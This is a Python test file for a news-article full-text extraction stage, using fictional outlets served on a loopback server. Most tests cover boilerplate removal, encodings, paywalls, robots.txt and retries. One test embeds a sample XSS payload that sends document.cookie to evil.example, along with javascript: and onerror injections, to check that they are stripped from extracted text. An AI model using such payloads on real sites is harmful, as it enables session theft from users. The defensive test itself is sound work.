"""The full-text stage end to end: loopback article pages -> extraction -> article_texts.

Every page, feed and text here is sample data invented for these tests: the outlets
(the Veldhaven Courier, the Olmen Herald, Северный вестник, Le Journal d'Olmen) and
their stories are fictional. Pages carry what real ones do: navigation, a cookie
banner, related links, footers, scripts, paywall boxes, listing pages.
"""

from __future__ import annotations

import asyncio
import json
import re
import sqlite3
import subprocess
import sys
import time
from datetime import datetime, timedelta
from pathlib import Path

import pytest
import trafilatura
from conftest import FAST, collect_once, item, outlet, rss_doc, run_cli

from narratives.config import Config, parse_feeds_yaml
from narratives.errors import ConfigError
from narratives.extract import decode_html, extract, extractor_name
from narratives.fetch import FetchSettings
from narratives.fulltext import (
    MAX_FAILURES,
    ROBOTS_BACKOFF,
    FulltextOptions,
    fulltext_pass,
    next_attempt,
)
from narratives.lock import collect_lock, lock_path_for
from narratives.loopback import LoopbackServer, send, static
from narratives.models import SCHEMA_VERSION
from narratives.store import open_store
from narratives.thin import is_thin

# --- sample articles (fictional) --------------------------------------------------

STRIKE = ("Harbour strike enters its third day", [
    "Dock workers in the port of Veldhaven stayed away from the cranes for a third day on "
    "Wednesday, after talks between the dockers' union and the port authority broke down "
    "over the pension rise promised last spring.",
    "The union's spokesman, Tomas Ribe, said the authority had offered a one-off payment "
    "instead of the index-linked rise agreed in March. \"We were told the money was there,\" "
    "he said outside the container terminal, where pickets had lit braziers against the wind.",
    "The port authority said in a statement that it remained open to talks, and that "
    "perishable cargo was being diverted to the river terminal at Olmen, forty kilometres "
    "upstream, where two extra shifts have been arranged.",
    "Shipping agents estimate that more than sixty vessels are waiting in the roads outside "
    "the harbour. Retailers have warned of empty shelves before the winter holidays if the "
    "dispute drags on into next week.",
])
FERRY = ("Night ferry to Korsholm cancelled after engine fault", [
    "The overnight ferry between Veldhaven and the island of Korsholm was cancelled on "
    "Thursday after engineers found a crack in a cooling pipe of its port engine.",
    "About two hundred passengers were put up in hotels near the terminal. The operator said "
    "a replacement vessel would sail on Friday evening, weather permitting.",
    "Islanders have long complained that the route depends on a single ageing ship. The "
    "regional council is due to vote next month on a subsidy for a second vessel.",
])
LIBRARY = ("Olmen library reopens after two-year renovation", [
    "The municipal library of Olmen reopened its doors on Saturday after a renovation that "
    "took twice as long as planned and cost a third more than the council had budgeted.",
    "Readers queued in the rain before the opening. The new reading room under the glass "
    "roof seats eighty, and the children's floor has moved to the former newspaper archive.",
    "The head librarian, Ines Varga, thanked the builders and apologised for the delays, "
    "which she blamed on asbestos found in the old heating ducts during the first winter.",
])
COUNCIL = ("Council delays vote on bridge tolls", [
    "Veldhaven's city council postponed its vote on tolls for the eastern bridge after "
    "residents of the eastern district packed the public gallery on Tuesday night.",
    "Councillors will now hear a traffic study in January before deciding on the charge.",
    "Shop owners on the eastern side say the toll would cut them off from their customers.",
])
NEWS = (STRIKE, FERRY, LIBRARY, COUNCIL)


def article_html(story: tuple[str, list[str]], *, head: str = "", banner: bool = True,
                 extra: str = "") -> str:
    """A realistic article page: cookie banner, navigation, byline, related links, footer."""
    title, paragraphs = story
    ps = "\n".join(f"<p>{p}</p>" for p in paragraphs)
    cookie = ('<div id="cookie-consent" class="cookie-banner" role="dialog"><p>We use cookies '
              'to measure our audience and remember your consent choices.</p><button>Accept all'
              '</button> <button>Manage settings</button> <a href="/privacy">Privacy policy</a></div>'
              if banner else "")
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta name="viewport" content="width=device-width">{head}
<title>{title} | Veldhaven Courier</title>
<link rel="stylesheet" href="/static/site.css"></head>
<body>{cookie}
<header class="site-header"><a class="logo" href="/">Veldhaven Courier</a>
<nav><ul><li><a href="/">Home</a></li><li><a href="/city">City</a></li><li><a href="/port">Port
</a></li><li><a href="/opinion">Opinion</a></li><li><a href="/subscribe">Subscribe</a></li></ul></nav>
</header>
<main><article class="story"><h1>{title}</h1>
<p class="byline">By Mira Castell, port correspondent</p><time datetime="2026-11-24">24 November 2026</time>
{ps}
{extra}
</article>
<aside class="related"><h2>More from the port</h2><ul>
<li><a href="/port/tug-crews-vote">Tug crews to vote on overtime ban</a></li>
<li><a href="/port/new-crane">Harbour board orders electric crane</a></li></ul></aside></main>
<footer><p>Veldhaven Courier, 12 Quay Street. All rights reserved.</p>
<a href="/contact">Contact</a> <a href="/imprint">Imprint</a></footer>
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({{"event": "pageview"}});</script>
</body></html>"""


def html_route(text: str, charset: str | None = "utf-8", status: int = 200,
               headers: dict[str, str] | None = None, encoding: str = "utf-8"):
    def route(req):
        ctype = "text/html" + (f"; charset={charset}" if charset else "")
        send(req, status, text.encode(encoding), {"Content-Type": ctype, **(headers or {})})
    return route


def teaser(story: tuple[str, list[str]]) -> str:
    return story[1][0].split(",")[0] + "."


class Site:
    """A fictional outlet on a loopback server: its feed lists articles at given paths."""

    def __init__(self, server: LoopbackServer, store, oid: str = "courier"):
        self.server, self.store, self.oid = server, store, oid
        self.items: list[str] = []

    def article(self, path: str, story, route, *, description: str | None = None,
                minutes_ago: int = 0, on: LoopbackServer | None = None) -> str:
        """Serve a page (on this site's server, or ``on`` another host) and list it in the feed."""
        url = (on or self.server).add(path, route)
        when = datetime(2026, 11, 24, 12, 0) - timedelta(minutes=minutes_ago + len(self.items))
        self.items.append(item(len(self.items), title=story[0], guid=f"{self.oid}-{path}", link=url,
                               description=description if description is not None else teaser(story),
                               pub=when.strftime("%a, %d %b %Y %H:%M:%S GMT")))
        return url

    def config(self, full_text: bool = True) -> Config:
        feed = self.server.url(f"/{self.oid}.xml")
        return Config(outlets=(outlet(self.oid, [feed], full_text=full_text),))

    def collect(self) -> Config:
        self.server.add(f"/{self.oid}.xml", static(rss_doc(self.items, title=self.oid)))
        config = self.config()
        report = collect_once(self.store, config, force=True)
        assert report.results and report.results[0].outcome == "ok", report.results
        return config


def run(store, config: Config, clock=None, **options):
    options.setdefault("workers", 0)
    options.setdefault("fetch", FAST)
    kwargs = {"clock": clock} if clock else {}
    return asyncio.run(fulltext_pass(store.engine, config, FulltextOptions(**options), **kwargs))


def texts(store) -> dict[str, dict]:
    """article url -> its article_texts row (as a dict)."""
    rows = store.rows("SELECT a.url AS page, t.* FROM article_texts t JOIN articles a ON a.id = t.article_id")
    out = {}
    for r in rows:
        row = dict(r._mapping)
        for key in ("attempted_at", "fetched_at", "next_attempt_at"):
            row[key] = datetime.fromisoformat(row[key]) if row[key] else None
        out[row["page"]] = row
    return out


def view(store) -> dict[str, dict]:
    rows = store.rows("SELECT * FROM v_articles")
    return {r._mapping["url"]: dict(r._mapping) for r in rows}


# --- extraction ---------------------------------------------------------------------

def test_realistic_page_is_extracted_without_boilerplate(server, store):
    site = Site(server, store)
    url = site.article("/port/strike", STRIKE, html_route(article_html(STRIKE)))
    report = run(store, site.collect())
    assert [r.outcome for r in report.results] == ["extracted"] and report.exit_code == 0
    row = texts(store)[url]
    text = row["text"]
    for paragraph in STRIKE[1]:
        assert paragraph in text
    for boilerplate in ("We use cookies", "Accept all", "Privacy policy", "All rights reserved",
                        "Tug crews to vote", "Opinion", "dataLayer", "port correspondent"):
        assert boilerplate not in text, boilerplate
    assert row["status"] == "extracted" and row["extractor"] == extractor_name()
    assert extractor_name() == f"trafilatura {trafilatura.__version__}" and trafilatura.__version__ >= "2"
    assert row["encoding"] == "utf-8 (header)" and row["http_status"] == 200
    assert row["chars"] == len(text) and row["attempts"] == 1 and row["failures"] == 0
    assert row["next_attempt_at"] is None and row["final_url"] == url
    # Beside the feed text, never instead of it.
    v = view(store)[url]
    assert v["summary"] == teaser(STRIKE) and v["content"] == ""
    assert (v["text_source"], v["full_text"], v["thin"]) == ("extracted", text, 0)
    assert v["versions"] == 0 and "event_id" in v


def test_paywall_stub_keeps_the_feed_text_and_says_why(server, store):
    site = Site(server, store)
    stub = article_html((FERRY[0], [FERRY[1][0][:70] + "…"]), extra=(
        '<div class="paywall"><h3>This article is for subscribers</h3><p>Subscribe for 1 euro '
        'a week to continue reading.</p><a href="/subscribe">Subscribe</a></div>'))
    summary = " ".join(FERRY[1][:2])  # the feed carries two paragraphs: more than the stub
    url = site.article("/island/ferry", FERRY, html_route(stub), description=summary)
    report = run(store, site.collect())
    assert [r.outcome for r in report.results] == ["fallback"] and report.exit_code == 0
    assert report.results[0].reason == "shorter_than_feed"
    assert "feed text" in report.results[0].message
    row = texts(store)[url]
    assert row["status"] == "fallback" and row["reason"] == "shorter_than_feed"
    assert 0 < row["chars"] < len(summary) and row["next_attempt_at"] is None
    v = view(store)[url]
    assert (v["text_source"], v["full_text"]) == ("feed-summary", summary)
    assert v["thin"] == (1 if is_thin(summary) else 0)
    # Done with: a second run does not ask for the page again.
    hits = server.hits["/island/ferry"]
    assert run(store, site.config()).due == 0 and server.hits["/island/ferry"] == hits


def test_listing_page_gives_only_the_matching_article(server, store):
    def card(story, tag="h2"):
        ps = "".join(f"<p>{p}</p>" for p in story[1])
        return f'<article class="card"><{tag}><a href="/x">{story[0]}</a></{tag}>{ps}</article>'

    listing = ("<html><head><title>Latest news</title></head><body><nav><a href='/'>Home</a></nav>"
               "<main>" + "".join(card(s) for s in (STRIKE, LIBRARY, FERRY)) + "</main></body></html>")
    site = Site(server, store)
    ours = site.article("/latest", LIBRARY, html_route(listing))
    # Another article whose address now shows the listing (moved or taken down).
    gone = site.article("/latest-2", COUNCIL, html_route(listing))
    # A story whose headline sits outside its <article>, followed by teaser <article>s.
    story = ("<html><head><title>" + COUNCIL[0] + "</title></head><body><header><h1>" + COUNCIL[0]
             + "</h1></header><main><article>" + "".join(f"<p>{p}</p>" for p in COUNCIL[1])
             + "</article><section class='more'>" + card(STRIKE, "h3") + card(FERRY, "h3")
             + "</section></main></body></html>")
    own = site.article("/city/tolls", COUNCIL, html_route(story))
    run(store, site.collect())
    rows = texts(store)
    assert rows[own]["status"] == "extracted" and all(p in rows[own]["text"] for p in COUNCIL[1])
    assert "overnight ferry" not in rows[own]["text"] and "Dock workers" not in rows[own]["text"]
    text = rows[ours]["text"]
    assert rows[ours]["status"] == "extracted"
    assert all(p in text for p in LIBRARY[1])
    assert "Dock workers" not in text and "overnight ferry" not in text
    assert rows[gone]["status"] == "fallback" and rows[gone]["reason"] == "several_articles"
    assert view(store)[gone]["text_source"] == "feed-summary"


CYRILLIC = ("Паром на Корсхольм отменён", [
    "Ночной паром между Вельдхавеном и островом Корсхольм отменили в четверг: инженеры нашли "
    "трещину в трубе охлаждения левого двигателя, и капитан отказался выходить в море.",
    "Около двухсот пассажиров разместили в гостиницах у терминала. Перевозчик обещал, что "
    "замена выйдет в пятницу вечером, если позволит погода и ветер к тому времени стихнет.",
    "Жители острова давно жалуются, что линия держится на одном старом судне, и просят "
    "областной совет выделить деньги на второй паром уже в следующем году.",
])
FRENCH = ("Réouverture de la bibliothèque d'Olmen", [
    "La bibliothèque municipale d'Olmen a rouvert samedi après des travaux qui ont duré deux "
    "fois plus longtemps que prévu, à la grande joie des lecteurs fidèles du quartier.",
    "Les lecteurs ont fait la queue sous la pluie. La nouvelle salle de lecture, sous la "
    "verrière, compte quatre-vingts places ; l’étage des enfants a déménagé.",
    "La directrice a remercié les ouvriers et s’est excusée des retards, dus à l’amiante "
    "trouvé dans les vieux conduits de chauffage pendant le premier hiver du chantier.",
])


def test_non_utf8_pages_decode_by_header_then_meta(server, store):
    site = Site(server, store)
    ru = site.article("/ru/parom", CYRILLIC, html_route(
        article_html(CYRILLIC, banner=False), charset="windows-1251", encoding="cp1251"))
    # ISO-8859-1 declared only in <meta>; the curly apostrophes are windows-1252 bytes
    # (0x92), as on real pages labelled latin-1: browsers, and we, read them as ’.
    fr = site.article("/fr/bibliotheque", FRENCH, html_route(
        article_html(FRENCH, banner=False, head='<meta http-equiv="Content-Type" '
                     'content="text/html; charset=iso-8859-1">'), charset=None, encoding="cp1252"))
    run(store, site.collect())
    rows = texts(store)
    assert rows[ru]["status"] == "extracted" and rows[ru]["encoding"] == "cp1251 (header)"
    assert all(p in rows[ru]["text"] for p in CYRILLIC[1])
    assert rows[fr]["status"] == "extracted" and rows[fr]["encoding"] == "cp1252 (meta)"
    assert all(p in rows[fr]["text"] for p in FRENCH[1])
    assert "l’étage" in rows[fr]["text"] and "\x92" not in rows[fr]["text"]


def test_decode_html_order_of_evidence():
    ru = "Жители острова давно жалуются на старое судно и просят второй паром. " * 8
    meta = b'<html><head><meta charset="koi8-r"></head><body>'
    body = meta + ru.encode("cp1251") + b"</body></html>"
    # The header wins over <meta>; a BOM wins over both.
    assert decode_html(body, {"content-type": "text/html; charset=windows-1251"})[1] == "cp1251 (header)"
    assert decode_html(b"\xef\xbb\xbf" + body, {"content-type": "text/html; charset=cp1251"})[1] == "utf-8 (bom)"
    text, how = decode_html(meta + ru.encode("koi8_r"), {"content-type": "text/html"})
    assert how == "koi8-r (meta)" and ru in text
    # A label nobody knows, or one the bytes do not fit, is passed over for the next source.
    text, how = decode_html(meta + ru.encode("koi8_r"), {"content-type": "text/html; charset=x-nonsense"})
    assert how == "koi8-r (meta)"
    text, how = decode_html(ru.encode("utf-8"), {"content-type": "text/html; charset=base64"})
    assert (text, how) == (ru, "utf-8 (detected)")
    # Nothing declared: UTF-8 if it fits, else charset_normalizer's guess.
    text, how = decode_html(b"<p>" + ru.encode("cp1251") + b"</p>", {})
    assert how.endswith("(detected)") and ru in text


def test_extraction_in_a_spawned_process(server, store):
    # One process per page here (the default waits for 100 pages per process).
    site = Site(server, store)
    urls = [site.article(f"/p/{i}", s, html_route(article_html(s))) for i, s in enumerate((STRIKE, FERRY))]
    report = run(store, site.collect(), workers=1, pages_per_worker=1)
    rows = texts(store)
    assert [r.outcome for r in report.results] == ["extracted", "extracted"]
    assert all(p in rows[urls[1]]["text"] for p in FERRY[1])
    assert rows[urls[0]]["extractor"] == extractor_name()


def test_hostile_markup_never_becomes_text():
    evil = ('<script>document.location="https://evil.example/?c="+document.cookie</script>'
            '<p onclick="alert(\'pwned\')">Harbour pilots say the channel is safe again. '
            '<a href="javascript:alert(1)">Read the pilots\' statement</a>.</p>'
            '<style>p { background: url(javascript:alert(2)) }</style>'
            '<iframe src="javascript:alert(3)"></iframe><noscript><img src=x onerror=alert(4)></noscript>'
            '<svg><script>alert(5)</script></svg>')
    html = article_html(STRIKE, extra=evil).encode()
    result = extract(html, {"content-type": "text/html; charset=utf-8"}, "http://127.0.0.1/x",
                     teaser(STRIKE), STRIKE[0])
    assert result.status == "extracted"
    for bad in ("alert", "javascript", "document.cookie", "evil.example", "onerror", "background"):
        assert bad not in result.text, bad
    assert "Harbour pilots say the channel is safe again." in result.text


def test_not_html_and_empty_pages():
    r = extract(b"%PDF-1.7 ...", {"content-type": "application/pdf"}, "http://h/x", "teaser")
    assert (r.status, r.reason) == ("failed", "not_html")
    r = extract(b"<html><head><title>Gone</title></head><body></body></html>",
                {"content-type": "text/html"}, "http://h/x", "teaser")
    assert (r.status, r.reason, r.text) == ("fallback", "no_text", "")
    # A page of navigation only: whatever the extractor scrapes together is no article.
    r = extract(b"<html><body><nav><a href='/'>Home</a> <a href='/city'>City</a></nav></body></html>",
                {"content-type": "text/html"}, "http://h/x", "The teaser of the feed.")
    assert r.status == "fallback"


# --- politeness and failures -----------------------------------------------------------

def test_403_and_429_are_recorded_and_429_holds_the_host(server, store):
    with LoopbackServer(host="127.0.0.2") as other:
        site = Site(server, store)
        forbidden = site.article("/a/403", STRIKE, html_route("<h1>Forbidden</h1>", status=403))
        # On the second host: the newest page answers 429, the two older ones must not be asked.
        busy = site.article("/b/429", FERRY, html_route("slow down", status=429, headers={
            "Retry-After": "7200"}), minutes_ago=-60, on=other)
        later = [site.article(f"/b/{i}", LIBRARY, html_route(article_html(LIBRARY)), on=other)
                 for i in range(2)]
        report = run(store, site.collect(), fetch=FetchSettings(concurrency=4, per_host=1,
                                                                 connect_timeout=2, deadline=2))
        by_url = {r.url: r for r in report.results}
        assert report.exit_code == 1
        rows = texts(store)
        assert rows[forbidden]["status"] == "failed" and rows[forbidden]["http_status"] == 403
        assert rows[forbidden]["error_class"] == "http_status"
        assert "403 from 127.0.0.1" in rows[forbidden]["error_message"]
        assert f"article {rows[forbidden]['article_id']}" in rows[forbidden]["error_message"]
        assert rows[forbidden]["next_attempt_at"] - rows[forbidden]["attempted_at"] == timedelta(hours=1)
        assert rows[busy]["http_status"] == 429 and "retry after 7200 s" in rows[busy]["error_message"]
        # Retry-After (2 h) stretches the first back-off step (1 h).
        assert rows[busy]["next_attempt_at"] - rows[busy]["attempted_at"] == timedelta(hours=2)
        assert [by_url[u].outcome for u in later] == ["deferred", "deferred"]
        assert not any(u in rows for u in later) and other.hits["/b/0"] == other.hits["/b/1"] == 0
        # Deferred pages stay due; the failed ones wait for their time.
        again = run(store, site.config())
        assert sorted(r.url for r in again.results) == sorted(later)
        assert {r.outcome for r in again.results} == {"extracted"}


def test_backoff_schedule_gives_up_and_force_retries(server, store):
    site = Site(server, store)
    url = site.article("/a/500", COUNCIL, html_route("oops", status=500))
    config = site.collect()
    start = datetime(2026, 11, 24, 13, 0)
    waits = []
    for n in range(1, MAX_FAILURES + 2):
        now = start + timedelta(days=2 * n)  # always past the previous back-off
        report = run(store, config, clock=lambda now=now: now)
        if n > MAX_FAILURES:
            assert report.due == 0  # given up
            break
        row = texts(store)[url]
        assert row["failures"] == n and row["status"] == "failed"
        waits.append(None if row["next_attempt_at"] is None else row["next_attempt_at"] - now)
    assert waits == [timedelta(hours=1), timedelta(hours=6), timedelta(hours=24), None]
    server.add("/a/500", html_route(article_html(COUNCIL)))
    report = run(store, config, force=True)
    assert [r.outcome for r in report.results] == ["extracted"]
    row = texts(store)[url]
    assert (row["failures"], row["attempts"], row["error_class"]) == (0, MAX_FAILURES + 1, None)
    assert view(store)[url]["text_source"] == "extracted"


def test_next_attempt_rules():
    now = datetime(2026, 1, 1)
    assert next_attempt("http_status", 1, now, retry_after=60) == now + timedelta(hours=1)
    assert next_attempt("timeout", 2, now, retry_after=86400) == now + timedelta(hours=24)
    assert next_attempt("robots", 9, now) == now + ROBOTS_BACKOFF
    assert next_attempt("too_large", 1, now) is None and next_attempt("gone", 1, now) is None


def test_huge_page_is_refused_at_the_cap(server, store):
    site = Site(server, store)
    huge = article_html(STRIKE, extra="<p>" + "filler words " * 40_000 + "</p>")
    url = site.article("/a/huge", STRIKE, html_route(huge))
    report = run(store, site.collect(), fetch=FetchSettings(max_bytes=64 * 1024, deadline=2))
    row = texts(store)[url]
    assert len(huge) > 400_000
    assert (row["status"], row["error_class"], row["next_attempt_at"]) == ("failed", "too_large", None)
    assert "65,536 bytes" in row["error_message"] and "--max-bytes" in row["error_message"]
    assert report.exit_code == 1 and view(store)[url]["text_source"] == "failed"
    assert view(store)[url]["full_text"] == teaser(STRIKE)


def test_robots_txt_is_read_once_per_host_and_obeyed(server, store):
    site = Site(server, store)
    ok = [site.article(f"/news/{i}", s, html_route(article_html(s))) for i, s in enumerate((STRIKE, FERRY))]
    private = site.article("/private/library", LIBRARY, html_route(article_html(LIBRARY)))
    server.add("/robots.txt", static(b"User-agent: *\nDisallow: /search\n\nUser-agent: narratives\n"
                                     b"Disallow: /private/\n", "text/plain"))
    config = site.collect()
    report = run(store, config)
    rows = texts(store)
    assert [rows[u]["status"] for u in ok] == ["extracted", "extracted"]
    assert rows[private]["status"] == "failed" and rows[private]["error_class"] == "robots"
    assert "robots.txt disallows" in rows[private]["error_message"]
    assert rows[private]["next_attempt_at"] - rows[private]["attempted_at"] == ROBOTS_BACKOFF
    assert server.hits["/private/library"] == 0 and server.hits["/robots.txt"] == 1
    assert report.exit_code == 1
    # 401/403 on robots.txt: nothing may be fetched; the page waits, --force asks again.
    server.add("/robots.txt", html_route("no", status=403))
    report = run(store, config, force=True)
    assert [(r.outcome, r.reason) for r in report.results] == [("failed", "robots")]
    assert server.hits["/private/library"] == 0
    # robots.txt gone (404): everything allowed.
    del server.routes["/robots.txt"]
    report = run(store, config, force=True)
    assert [r.outcome for r in report.results] == ["extracted"] and server.hits["/private/library"] == 1


def test_robots_crawl_delay_spaces_requests(server, store):
    site = Site(server, store)
    starts = []

    def timed(req):
        starts.append(time.monotonic())
        html_route(article_html(STRIKE))(req)

    for i in range(2):
        site.article(f"/slow/{i}", STRIKE, timed)
    # (urllib.robotparser reads whole seconds only.)
    server.add("/robots.txt", static(b"User-agent: *\nCrawl-delay: 1\n", "text/plain"))
    run(store, site.collect(), fetch=FetchSettings(per_host=4, deadline=2))
    assert len(starts) == 2 and abs(starts[1] - starts[0]) >= 0.95, starts


def test_redirect_to_another_path_records_the_final_url(server, store):
    site = Site(server, store)

    def moved(req):
        send(req, 301, b"", {"Location": "/2026/11/harbour-strike-third-day"})

    url = site.article("/s/8f3k", STRIKE, moved)
    final = server.add("/2026/11/harbour-strike-third-day", html_route(article_html(STRIKE)))
    run(store, site.collect())
    row = texts(store)[url]
    assert (row["status"], row["url"], row["final_url"]) == ("extracted", url, final)


# --- versions, idempotence, schedule -----------------------------------------------------

def test_changed_page_text_keeps_the_earlier_one_in_article_versions(server, store):
    site = Site(server, store)
    url = site.article("/port/strike", STRIKE, html_route(article_html(STRIKE)))
    config = site.collect()
    run(store, config)
    first = texts(store)[url]
    # A silent edit: one sentence of the page changes, the feed does not.
    edited = (STRIKE[0], STRIKE[1][:2] + ["The port authority declined to comment."] + STRIKE[1][3:])
    server.add("/port/strike", html_route(article_html(edited)))
    hits = server.hits["/port/strike"]
    assert run(store, config).due == 0 and server.hits["/port/strike"] == hits  # nothing due
    report = run(store, config, recheck=True)
    assert [(r.outcome, r.versioned) for r in report.results] == [("extracted", True)]
    now = texts(store)[url]
    assert "declined to comment" in now["text"] and now["content_hash"] != first["content_hash"]
    versions = store.rows("SELECT v.*, s.source FROM article_versions v "
                          "JOIN article_version_sources s ON s.version_id = v.id")
    assert len(versions) == 1
    v = versions[0]._mapping
    assert v["content"] == first["text"] and v["content_hash"] == first["content_hash"]
    assert (v["url"], v["title"], v["summary"], v["source"]) == (url, STRIKE[0], teaser(STRIKE), "page")
    assert datetime.fromisoformat(v["seen_from"]) == first["fetched_at"]
    assert datetime.fromisoformat(v["replaced_at"]) == now["attempted_at"]
    assert view(store)[url]["versions"] == 1
    # The same text read again is no new version.
    report = run(store, config, recheck=True)
    assert [(r.outcome, r.versioned) for r in report.results] == [("extracted", False)]
    assert store.scalar("SELECT COUNT(*) FROM article_versions") == 1


def test_feed_edit_makes_the_page_due_again(server, store):
    site = Site(server, store)
    url = site.article("/port/ferry", FERRY, html_route(article_html(FERRY)))
    config = site.collect()
    run(store, config)
    assert run(store, config).due == 0
    # The outlet edits the item in its feed: the page is read again on the next run.
    site.items[0] = site.items[0].replace(teaser(FERRY), "Updated: " + teaser(FERRY))
    server.add("/port/ferry", html_route(article_html((FERRY[0], FERRY[1] + ["Sailings resume Friday."]))))
    site.collect()
    report = run(store, config)
    assert [(r.url, r.versioned) for r in report.results] == [(url, True)]
    assert "Sailings resume Friday." in texts(store)[url]["text"]
    # Two versions now: the feed's earlier teaser and the page's earlier text.
    sources = store.rows("SELECT COALESCE(s.source, 'feed') FROM article_versions v "
                         "LEFT JOIN article_version_sources s ON s.version_id = v.id ORDER BY v.id")
    assert [s[0] for s in sources] == ["feed", "page"]


def test_second_run_does_nothing_and_outlets_without_full_text_are_left_alone(server, store):
    site = Site(server, store)
    urls = [site.article(f"/n/{i}", s, html_route(article_html(s))) for i, s in enumerate(NEWS)]
    config = site.collect()
    assert run(store, config, batch=2).due == 4  # several write transactions
    assert len(texts(store)) == 4
    hits = dict(server.hits)
    report = run(store, config)
    assert (report.due, report.results, dict(server.hits)) == (0, [], hits)
    assert run(store, site.config(full_text=False)).outlets == ()
    assert run(store, config, limit=2, recheck=True).due == 2  # newest first, within the limit
    assert {texts(store)[u]["attempts"] for u in urls[:2]} == {2}


def test_thin_rule_is_the_same_in_python_and_sql(server, store):
    site = Site(server, store)
    samples = {
        "one-line teaser": teaser(STRIKE),
        "59 words": " ".join(["word"] * 59),
        "60 words": " ".join(["word"] * 60),
        "two paragraphs": "\n\n".join(STRIKE[1][:2]),
        "short chinese": "港口罢工进入第三天，工会与港务局的谈判破裂。",
        "long chinese": "港口罢工进入第三天，工会与港务局的谈判破裂。" * 12,
    }
    for i, (name, text) in enumerate(samples.items()):
        site.article(f"/t/{i}", (name, []), html_route("x"), description=text)
    site.collect()
    thin = {r[0]: r[1] for r in store.rows("SELECT title, thin FROM v_articles")}
    summaries = {r[0]: r[1] for r in store.rows("SELECT title, summary FROM articles")}
    for name in samples:
        assert thin[name] == int(is_thin(summaries[name])), name
    assert thin == {"one-line teaser": 1, "59 words": 1, "60 words": 0, "two paragraphs": 0,
                    "short chinese": 1, "long chinese": 0}


# --- configuration -------------------------------------------------------------------

FEEDS_YAML = """\
outlets:
  - id: courier
    name: Veldhaven Courier
    country: XX
    language: en
    affiliation: independent
    owner: Sample owner
    homepage: https://courier.example
    full_text: {value}
    feeds:
      - url: {feed}
"""


def test_full_text_config_default_and_errors(tmp_path):
    text = FEEDS_YAML.format(value="true", feed="https://courier.example/rss")
    assert parse_feeds_yaml(text).outlets[0].full_text is True
    without = "\n".join(line for line in text.splitlines() if "full_text" not in line)
    assert parse_feeds_yaml(without).outlets[0].full_text is False
    with pytest.raises(ConfigError) as err:
        parse_feeds_yaml(FEEDS_YAML.format(value="yes please", feed="https://courier.example/rss"))
    assert err.value.problems == [
        "feeds.yaml:9: outlets[0] (courier).full_text: expected true or false, got 'yes please'. "
        "Fix: write true or false"]
    cfg = tmp_path / "feeds.yaml"
    cfg.write_text(FEEDS_YAML.format(value="yes please", feed="https://courier.example/rss"))
    r = run_cli("fulltext", "--db", str(tmp_path / "s.db"), "--feeds", str(cfg), cwd=tmp_path)
    assert r.returncode == 2 and f"{cfg}:9: outlets[0] (courier).full_text" in r.stderr, r.stderr
    assert not (tmp_path / "s.db").exists()


# --- the command line ---------------------------------------------------------------

def write_feeds(tmp_path: Path, feed: str, full_text: str = "true") -> Path:
    cfg = tmp_path / "feeds.yaml"
    cfg.write_text(FEEDS_YAML.format(value=full_text, feed=feed))
    return cfg


def feed_of(server, stories_paths, name="/courier.xml") -> str:
    entries = [item(i, title=s[0], link=server.url(p), description=teaser(s))
               for i, (s, p) in enumerate(stories_paths)]
    return server.add(name, static(rss_doc(entries)))


@pytest.mark.slow
def test_cli_fulltext_exit_codes_json_and_lock(tmp_path, server):
    server.add("/ok", html_route(article_html(STRIKE)))
    feed = feed_of(server, [(STRIKE, "/ok"), (FERRY, "/missing")])
    cfg = write_feeds(tmp_path, feed)
    db = tmp_path / "s.db"
    r = run_cli("collect", "--db", str(db), "--feeds", str(cfg), "--workers", "0", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    with collect_lock(lock_path_for(f"sqlite:///{db}", ".fulltext.lock"), what="fulltext"):
        r = run_cli("fulltext", "--db", str(db), "--feeds", str(cfg), cwd=tmp_path)
        assert r.returncode == 3 and "another fulltext is running" in r.stderr, r.stderr
    # The collect lock is another lock: a collect in progress does not stop fulltext.
    with collect_lock(lock_path_for(f"sqlite:///{db}")):
        r = run_cli("fulltext", "--db", str(db), "--feeds", str(cfg), "--workers", "1",
                    "--format", "json", "--timeout", "5", cwd=tmp_path)
    assert r.returncode == 1, r.stdout + r.stderr
    rows = {row["url"]: row for row in json.loads(r.stdout)}
    assert rows[server.url("/ok")]["outcome"] == "extracted" and rows[server.url("/ok")]["chars"] > 500
    missing = rows[server.url("/missing")]
    assert (missing["outcome"], missing["http_status"], missing["reason"]) == ("failed", 404, "http_status")
    assert "404 from 127.0.0.1" in missing["message"]
    for bad, fix in (("nosuch", "unknown outlet"), ("courier", "full_text: true")):
        other = write_feeds(tmp_path, feed, full_text="false") if bad == "courier" else cfg
        r = run_cli("fulltext", "--db", str(db), "--feeds", str(other), "--outlet", bad, cwd=tmp_path)
        assert r.returncode == 2 and fix in r.stderr, r.stderr


@pytest.mark.slow
def test_collect_full_text_runs_both_stages(tmp_path, server):
    server.add("/a", html_route(article_html(LIBRARY)))
    cfg = write_feeds(tmp_path, feed_of(server, [(LIBRARY, "/a")]))
    db = tmp_path / "s.db"
    r = run_cli("collect", "--db", str(db), "--feeds", str(cfg), "--workers", "0", "--full-text",
                cwd=tmp_path)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "1 extracted" in r.stdout, r.stdout
    con = sqlite3.connect(db)
    assert con.execute("SELECT text_source, thin FROM v_articles").fetchall() == [("extracted", 0)]
    assert con.execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone() == (
        str(SCHEMA_VERSION),)
    con.close()


@pytest.mark.slow
def test_a_slow_fulltext_run_does_not_block_collect(tmp_path, server, store):
    def stalling(req):
        server.stopping.wait(4.0)  # a page that takes its time
        html_route(article_html(STRIKE))(req)

    server.add("/slow", stalling)
    feed = feed_of(server, [(STRIKE, "/slow")])
    cfg = write_feeds(tmp_path, feed)
    config = Config(outlets=(outlet("courier", [feed], full_text=True),))
    collect_once(store, config)
    proc = subprocess.Popen([sys.executable, "-m", "narratives", "fulltext", "--db", str(store.path),
                             "--feeds", str(cfg), "--workers", "0", "--timeout", "10"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path)
    try:
        deadline = time.monotonic() + 15
        while server.hits["/slow"] == 0 and time.monotonic() < deadline:
            time.sleep(0.05)
        assert server.hits["/slow"] == 1
        server.add("/courier.xml", static(rss_doc([item(7, title="Tug crews vote on overtime ban")])))
        began = time.monotonic()
        report = collect_once(store, config, force=True)
        took = time.monotonic() - began
        assert proc.poll() is None, "fulltext finished before the collect: the test proves nothing"
        assert report.results[0].counts.new == 1 and took < 2.0, (report.results, took)
        out, err = proc.communicate(timeout=30)
